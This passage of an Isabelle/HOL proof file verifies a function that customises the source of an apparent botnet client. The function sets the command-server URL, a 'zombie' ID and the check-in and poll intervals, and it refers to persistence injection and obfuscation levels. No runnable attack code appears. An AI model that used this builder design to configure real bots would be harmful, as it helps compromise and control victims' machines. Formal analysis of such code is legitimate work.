   apply (rule bind_pure_fails, rule re_sub_literal_pair)
   apply (rule bind_pure_fails, rule re_sub_literal_pair)
   apply (rule bind_pure_fails, rule re_sub_literal_pair)
   apply (simp add: bind_def inject_persistence_windows_strict[OF assms])
  apply (simp add: io_defs)
  done

lemma str_int_intervals:
  "str_int 300 = ''300''" "str_int 30 = ''30''" "str_int 600 = ''600''"
  "str_int 60 = ''60''" "str_int 1800 = ''1800''" "str_int 120 = ''120''"
  by (simp_all add: str_int_def char_of_eq_iff)

lemma timing_text_plain:
  "CHR 0x5C \<notin> set (str_int (fst (timing_intervals level)))"
  "CHR 0x5C \<notin> set (str_int (snd (timing_intervals level)))"
  by (simp_all add: timing_intervals_def str_int_intervals)

lemma modify_source_code_writes:
  assumes "map_of (files s) (prep_dir b @ [SOURCE_FILE]) = Some src" and "utf8_valid src"
    and "CHR 0x5C \<notin> set (server_url b)" and "CHR 0x5C \<notin> set (zombie_uuid_hex e)"
    and \<open>inject_persistence e b
           (replace_literal 0 ''COMMAND_POLL_INTERVAL = 30''
              (''COMMAND_POLL_INTERVAL = '' @ str_int (snd (timing_intervals (obfuscation_level b))))
           (replace_literal 0 ''CHECK_IN_INTERVAL = 300''
              (''CHECK_IN_INTERVAL = '' @ str_int (fst (timing_intervals (obfuscation_level b))))
           (replace_literal 0 ''ZOMBIE_ID = f"zombie_{uuid.uuid4().hex[:8]}"''
              (''ZOMBIE_ID = "'' @ ''zombie_'' @ zombie_uuid_hex e @ ''"'')
           (replace_literal 0 ''SERVER_URL = "http://127.0.0.1:5000"''
              (''SERVER_URL = "'' @ server_url b @ ''"'') (universal_newlines src)))))
           (s\<lparr>log := log s @ [(INFO, ''Customizing source code...'')]\<rparr>) =
         (Inr out, s\<lparr>log := log s @ [(INFO, ''Customizing source code...'')]\<rparr>)\<close>
    and "utf8_valid out" and "is_dir s (prep_dir b)" and "\<not> is_dir s (modified_source b)"
  shows "modify_source_code e b s =
     (Inr True,
      s\<lparr>log := log s @ [(INFO, ''Customizing source code...'')],
        files := AList.update (modified_source b) out (files s)\<rparr>)"
proof -
  let ?s1 = "s\<lparr>log := log s @ [(INFO, ''Customizing source code...'')]\<rparr>"
  have rd: "read_text (prep_dir b @ [SOURCE_FILE]) ?s1 = (Inr (universal_newlines src), ?s1)"
    by (rule read_text_file) (use assms in simp_all)
  have wr: "write_text (modified_source b) out ?s1 =
      (Inr (), ?s1\<lparr>files := AList.update (modified_source b) out (files ?s1)\<rparr>)"
    by (rule write_text_file) (use assms in \<open>simp_all add: modified_source_def is_dir_def\<close>)
  show ?thesis
    unfolding modify_source_code_def seq_logger
    using assms(3,4,5) rd wr
    by (simp add: try_except_def bind_def seq_def ret_def re_sub_literal_plain timing_text_plain)
qed

end
